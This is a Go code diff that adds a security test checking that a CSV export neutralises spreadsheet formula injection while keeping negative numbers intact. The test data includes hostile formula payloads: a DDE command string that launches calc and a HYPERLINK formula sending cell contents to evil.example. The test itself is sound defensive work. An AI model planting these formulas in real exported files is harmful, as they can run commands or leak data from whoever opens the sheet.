@@ -8,6 +8,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode/utf8"
 
 	"github.com/shopspring/decimal"
 )
@@ -90,6 +91,41 @@ func TestWriteCSV(t *testing.T) {
 	} {
 		if got := guardFormula(text); got != want {
 			t.Errorf("guard %q: %q, want %q", text, got, want)
+		}
+	}
+}
+
+// TestSecurityCSVInjection: no text that strangers choose begins a cell as a formula does; the text is whole behind the ', and numbers
+// stay numbers, also negative ones.
+func TestSecurityCSVInjection(t *testing.T) {
+	var texts []string
+	for _, first := range []string{"=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "\x00", "\ufeff", "＝", "＋", "－", "＠", "\t=", "=\"", "==", "-@", "\"=", ",=", ";=", "\n="} {
+		for _, rest := range []string{"", "1+1", "cmd|' /C calc'!A0", `HYPERLINK("http://evil.example?x="&A1,"x")`, "a,b;c\td", "\"quoted\"", "two\nlines", "'"} {
+			texts = append(texts, first+rest)
+		}
+	}
+	texts = append(texts, "plain", "1", "a=1", "'already", " =1", "")
+	r := &Result{Columns: []string{"source", "leads", "rate", "medium"}}
+	for _, text := range texts {
+		r.Rows = append(r.Rows, []any{text, int64(-4), -0.5, text})
+	}
+	rows, err := csv.NewReader(strings.NewReader(written(t, r, "csv"))).ReadAll()
+	if err != nil || len(rows) != len(texts)+1 {
+		t.Fatalf("%d rows, %v", len(rows), err)
+	}
+	for i, row := range rows[1:] {
+		// encoding/csv reads a line break within a cell as \n.
+		want := strings.ReplaceAll(texts[i], "\r\n", "\n")
+		for _, cell := range []string{row[0], row[3]} {
+			if first, _ := utf8.DecodeRuneInString(cell); strings.ContainsRune("=+-@\t\r\n\x00\ufeff＝＋－＠", first) && cell != "" {
+				t.Errorf("%q is written as %q, a formula", texts[i], cell)
+			}
+			if cell != want && cell != "'"+want {
+				t.Errorf("%q is written as %q", texts[i], cell)
+			}
+		}
+		if row[1] != "-4" || row[2] != "-0.5" {
+			t.Errorf("numbers are written as %q", row[1:3])
 		}
 	}
 }
